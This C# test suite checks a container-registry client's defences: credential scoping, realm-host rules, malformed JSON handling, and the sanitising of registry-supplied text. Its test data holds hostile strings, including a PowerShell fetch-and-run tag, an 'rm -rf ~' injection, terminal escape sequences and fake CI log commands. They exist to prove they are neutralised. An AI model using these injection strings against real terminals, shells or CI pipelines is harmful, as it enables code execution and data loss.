using System.Net;
using System.Text;
using OrasStaging.Commands.Completion;
using OrasStaging.Oci;
using OrasStaging.Oci.Auth;

namespace OrasStaging.Tests.Oci;

/// <summary>
/// Issue 9, "Secrets and injection" and "fails closed": where credentials go, what registry-chosen text may do to a
/// command line or a log, which config and JSON shapes are tolerated, and which realm hosts are allowed.
/// </summary>
public sealed class TrustSecretsTests : IDisposable
{
    private const string Nosi = "application/vnd.nosi.disk-image.layer.v1+gzip";
    private readonly FakeRegistry _reg = new();
    private readonly RecordingSink _sink = new();
    private readonly CancellationTokenSource _timeout = new(TimeSpan.FromSeconds(60));
    private readonly string _dir = Directory.CreateTempSubdirectory("trust-secrets-").FullName;

    public void Dispose()
    {
        _reg.Dispose();
        _timeout.Dispose();
        Directory.Delete(_dir, true);
    }

    private RegistryOptions Options(NetworkCredential? credential = null, string? dockerConfig = null) => new()
    {
        RetryIntervalSec = 0,
        MaximumRetryCount = 0,
        CacheServer = string.Empty,
        StallTimeout = TimeSpan.FromSeconds(10),
        DockerConfigPath = dockerConfig ?? "/nonexistent/config.json",
        Credential = credential,
    };

    private Task<OrasImage> Resolve(string reference, RegistryOptions? options = null) =>
        new RegistryClient(options ?? Options(), _sink).ResolveAsync(ImageReference.Parse(reference), new ResolveOptions(), _timeout.Token);

    [Fact]
    public async Task A_BlobUri_on_another_host_gets_no_request_and_no_credential()
    {
        using var elsewhere = new FakeRegistry();
        byte[] data = Encoding.UTF8.GetBytes("the genuine blob");
        string digest = _reg.AddBlob(data);
        var basic = "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes("alice:s3cret"));
        _reg.Intercept = ctx =>
        {
            if (ctx.Request.Headers["Authorization"] != basic)
            {
                ctx.Response.Headers["WWW-Authenticate"] = "Basic realm=\"fake\"";
                FakeRegistry.WriteStatus(ctx, 401, "UNAUTHORIZED");
                return true;
            }

            return false;
        };
        // Hand-made (or rehydrated from Export-Clixml) with a BlobUri that points somewhere else.
        var image = new OrasImage
        {
            Registry = _reg.Host,
            Repository = "lab/a",
            Digest = digest,
            Size = data.Length,
            BlobUri = new Uri($"http://127.0.0.1:{elsewhere.Port}/v2/lab/a/blobs/{digest}"),
        };

        var file = await new RegistryClient(Options(new NetworkCredential("alice", "s3cret")), _sink)
            .DownloadBlobAsync(image, Path.Combine(_dir, "blob"), force: false, _timeout.Token);

        Assert.Empty(elsewhere.Requests);
        Assert.Equal(data, File.ReadAllBytes(file.FullName));
        Assert.Contains(_reg.Requests, r => r.Path == $"/v2/lab/a/blobs/{digest}" && r.Authorization == basic);
    }

    [Fact]
    public async Task Tag_completion_offers_only_grammar_tags_and_quotes_them()
    {
        _reg.Intercept = ctx =>
        {
            if (ctx.Request.Url!.AbsolutePath != "/v2/lab/x/tags/list")
            {
                return false;
            }

            ctx.Response.ContentType = "application/json";
            FakeRegistry.WriteBody(ctx, Encoding.UTF8.GetBytes(
                """{"name":"lab/x","tags":["latest","latest$(iex(irm evil))","v1.0","latest;rm -rf ~","-x","latest'+'"]}"""), 200);
            return true;
        };

        Assert.True(TagQuery.TryParse($"oras://{_reg.Host}/lab/x:", out var query));
        var listed = await RegistryTagLister.ListTagsAsync(query, _timeout.Token);
        Assert.Contains("latest$(iex(irm evil))", listed); // the fake did serve it

        Assert.Equal(new[] { $"'oras://{_reg.Host}/lab/x:latest'", $"'oras://{_reg.Host}/lab/x:v1.0'" },
            query.Offer(string.Empty, listed).Select(o => o.Text));
        Assert.True(TagQuery.TryParse($"{_reg.Host}/lab/x:lat", out var typed));
        Assert.Equal(new[] { $"\"{_reg.Host}/lab/x:latest\"" }, typed.Offer("\"", listed).Select(o => o.Text));
    }

    [Theory]
    [InlineData("\u001b[31mred\u001b[0m text", "red text")]
    [InlineData("title\u001b]0;owned\u0007 here", "title here")]
    [InlineData("a\r\nb\tc", "a b c")]
    [InlineData("##vso[task.setvariable variable=x]1", "# #vso[task.setvariable variable=x]1")]
    [InlineData("see ##[error]fake", "see # #[error]fake")]
    [InlineData("::add-mask::x", ": :add-mask::x")]
    [InlineData("ok\n::set-env name=A::b", "ok : :set-env name=A::b")]
    [InlineData("[::1]:5000 and fe80::abcd", "[::1]:5000 and fe80::abcd")]
    [InlineData("left\u202Eright", "left right")]
    public void Untrusted_text_cannot_drive_a_terminal_or_a_CI_log(string text, string expected) =>
        Assert.Equal(expected, Redaction.Untrusted(text));

    [Fact]
    public async Task Registry_error_text_titles_and_media_types_reach_messages_sanitised()
    {
        _reg.AddImage("lab/t", "v1", ("application/x\u001b[2Jdisk", Encoding.UTF8.GetBytes("disk"), "d\u001b]0;x\u0007.img\n::set-output name=a::b"));
        var image = await Resolve($"oras://{_reg.Host}/lab/t:v1");
        Assert.Equal("d.img : :set-output name=a::b", image.Title);
        Assert.Equal("application/xdisk", image.MediaType);

        _reg.Intercept = ctx =>
        {
            ctx.Response.ContentType = "application/json";
            FakeRegistry.WriteBody(ctx, Encoding.UTF8.GetBytes(
                "{\"errors\":[{\"code\":\"DENIED\",\"message\":\"\\u001b[1A\\r##vso[task.complete result=Succeeded]\\n::error::fake\"}]}"), 400);
            return true;
        };
        var ex = await Assert.ThrowsAsync<OrasStagingException>(() => Resolve($"oras://{_reg.Host}/lab/t:v1"));
        Assert.Equal(ErrorCode.RegistryProtocolError, ex.Code);
        Assert.Contains("DENIED", ex.Message);
        Assert.True(!ex.Message.Contains('\u001b'), ex.Message);
        Assert.DoesNotContain("\n", ex.Message);
        Assert.DoesNotContain("##vso[", ex.Message);
        Assert.DoesNotContain("::error", ex.Message);
    }

    [Theory]
    [InlineData("""{"errors":["not an object"]}""")]
    [InlineData("""["errors"]""")]
    [InlineData("""{"errors":{"code":"X"}}""")]
    public async Task An_error_body_of_the_wrong_shape_is_RegistryProtocolError(string body)
    {
        _reg.Intercept = ctx =>
        {
            ctx.Response.ContentType = "application/json";
            FakeRegistry.WriteBody(ctx, Encoding.UTF8.GetBytes(body), 400);
            return true;
        };
        var ex = await Assert.ThrowsAsync<OrasStagingException>(() => Resolve($"oras://{_reg.Host}/lab/t:v1"));
        Assert.Equal(ErrorCode.RegistryProtocolError, ex.Code);
    }

    [Fact]
    public async Task A_layer_size_that_is_a_string_is_RegistryProtocolError()
    {
        _reg.AddManifest("lab/s", "v1", new
        {
            schemaVersion = 2,
            mediaType = "application/vnd.oci.image.manifest.v1+json",
            config = new { mediaType = "application/vnd.oci.empty.v1+json", digest = _reg.AddBlob(Encoding.UTF8.GetBytes("{}")), size = 2 },
            layers = new object[] { new { mediaType = Nosi, digest = FakeRegistry.Digest(new byte[] { 1 }), size = "1" } },
        });
        var ex = await Assert.ThrowsAsync<OrasStagingException>(() => Resolve($"oras://{_reg.Host}/lab/s:v1"));
        Assert.Equal(ErrorCode.RegistryProtocolError, ex.Code);
    }

    [Theory]
    [InlineData("""["token","t"]""")]
    [InlineData("""{"token":"t","expires_in":1000000000000}""")]
    [InlineData("""{"token":"t","expires_in":1e12}""")]
    [InlineData("""{"token":"t","expires_in":"300"}""")]
    [InlineData("""{"token":"t","expires_in":-5}""")]
    [InlineData("\"just a string\"")]
    public async Task A_token_response_of_the_wrong_shape_is_RegistryProtocolError(string tokenBody)
    {
        _reg.AddImage("lab/p", "v1", (Nosi, Encoding.UTF8.GetBytes("disk"), "p.img.gz"));
        _reg.Intercept = ctx =>
        {
            if (ctx.Request.Url!.AbsolutePath == "/token")
            {
                ctx.Response.ContentType = "application/json";
                FakeRegistry.WriteBody(ctx, Encoding.UTF8.GetBytes(tokenBody), 200);
                return true;
            }

            ctx.Response.Headers["WWW-Authenticate"] = $"Bearer realm=\"http://127.0.0.1:{_reg.Port}/token\",service=\"fake\"";
            FakeRegistry.WriteStatus(ctx, 401, "UNAUTHORIZED");
            return true;
        };
        var ex = await Assert.ThrowsAsync<OrasStagingException>(() => Resolve($"oras://{_reg.Host}/lab/p:v1"));
        Assert.Equal(ErrorCode.RegistryProtocolError, ex.Code);
    }

    [Fact]
    public void A_realm_on_another_host_is_allowed_for_anonymous_token_requests_only()
    {
        var gitlab = new Uri("https://gitlab.com/jwt/auth");
        Assert.Null(Record.Exception(() => RealmPolicy.ValidateRealm(gitlab, "registry.gitlab.com", sendsCredential: false)));
        var refused = Assert.IsType<OrasStagingException>(
            Record.Exception(() => RealmPolicy.ValidateRealm(gitlab, "registry.gitlab.com", sendsCredential: true)));
        Assert.Equal(ErrorCode.AuthenticationFailed, refused.Code);
        Assert.Contains("not on the registry's own host", refused.Message);

        // The scheme and user-information rules hold with or without a credential, and say so.
        var http = Assert.IsType<OrasStagingException>(
            Record.Exception(() => RealmPolicy.ValidateRealm(new Uri("http://gitlab.com/jwt/auth"), "registry.gitlab.com", sendsCredential: false)));
        Assert.Contains("not https", http.Message);
        var userInfo = Assert.IsType<OrasStagingException>(
            Record.Exception(() => RealmPolicy.ValidateRealm(new Uri("https://u:p@gitlab.com/jwt/auth"), "registry.gitlab.com", sendsCredential: false)));
        Assert.Contains("user information", userInfo.Message);
    }
}

/// <summary>docker config and credential helpers: process-wide state (PATH, the working directory), so not in parallel.</summary>
[Collection("PATH")]
public sealed class TrustConfigTests : IDisposable
{
    private readonly FakeRegistry _reg = new();
    private readonly RecordingSink _sink = new();
    private readonly string _dir = Directory.CreateTempSubdirectory("trust-config-").FullName;

    public void Dispose()
    {
        _reg.Dispose();
        Directory.Delete(_dir, true);
    }

    private Task<OrasImage> ResolveWithConfig(string dockerConfig)
    {
        _reg.AddImage("lab/pub", "v1", ("application/vnd.nosi.disk-image.layer.v1+gzip", Encoding.UTF8.GetBytes("disk"), "p.img.gz"));
        var options = new RegistryOptions { RetryIntervalSec = 0, CacheServer = string.Empty, DockerConfigPath = dockerConfig };
        return new RegistryClient(options, _sink).ResolveAsync(ImageReference.Parse($"oras://{_reg.Host}/lab/pub:v1"), new ResolveOptions(), CancellationToken.None);
    }

    [Fact]
    public async Task A_config_json_that_is_a_folder_warns_and_pulls_anonymously()
    {
        string docker = Path.Combine(_dir, "docker");
        Directory.CreateDirectory(Path.Combine(docker, "config.json"));
        var image = await ResolveWithConfig(docker);
        Assert.Equal("p.img.gz", image.Title);
        Assert.Contains(_sink.Warnings, w => w.Contains("config.json") && w.Contains("folder") && w.Contains("anonymously"));
    }

    [Theory]
    [InlineData("[1, 2]")]
    [InlineData("\"auths\"")]
    [InlineData("{\"auths\": ")]
    public async Task A_malformed_config_json_warns_and_pulls_anonymously(string json)
    {
        string path = Path.Combine(_dir, "config.json");
        File.WriteAllText(path, json);
        var image = await ResolveWithConfig(path);
        Assert.Equal("p.img.gz", image.Title);
        Assert.Contains(_sink.Warnings, w => w.Contains(path) && w.Contains("anonymously"));
    }

    [Fact]
    public void A_credential_helper_in_the_working_directory_is_never_run()
    {
        if (OperatingSystem.IsWindows())
        {
            return; // the script below is a POSIX shell script
        }

        string cwd = Path.Combine(_dir, "cwd");
        Directory.CreateDirectory(cwd);
        string marker = Path.Combine(_dir, "ran");
        string helper = Path.Combine(cwd, "docker-credential-trustcwd");
        File.WriteAllText(helper, $"#!/bin/sh\ntouch '{marker}'\necho '{{\"Username\":\"u\",\"Secret\":\"s\"}}'\n");
        File.SetUnixFileMode(helper, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        string oldCwd = Directory.GetCurrentDirectory();
        string oldPath = Environment.GetEnvironmentVariable("PATH") ?? string.Empty;
        try
        {
            Directory.SetCurrentDirectory(cwd);
            // "." and "" in PATH mean the working directory too; they must be skipped as well.
            Environment.SetEnvironmentVariable("PATH", "." + Path.PathSeparator + Path.PathSeparator + oldPath);
            var found = new CredentialResolver(new RegistryOptions(), _sink).FromHelper("trustcwd", "https://ghcr.io");
            Assert.Null(found);
            Assert.False(File.Exists(marker), "the helper in the working directory ran");
            Assert.Contains(_sink.Warnings, w => w.Contains("not on PATH"));

            // The same helper in an absolute PATH folder is found and run.
            Environment.SetEnvironmentVariable("PATH", cwd + Path.PathSeparator + oldPath);
            Assert.Equal("u", new CredentialResolver(new RegistryOptions(), _sink).FromHelper("trustcwd", "https://ghcr.io")?.Username);
            Assert.True(File.Exists(marker));
        }
        finally
        {
            Directory.SetCurrentDirectory(oldCwd);
            Environment.SetEnvironmentVariable("PATH", oldPath);
        }
    }
}
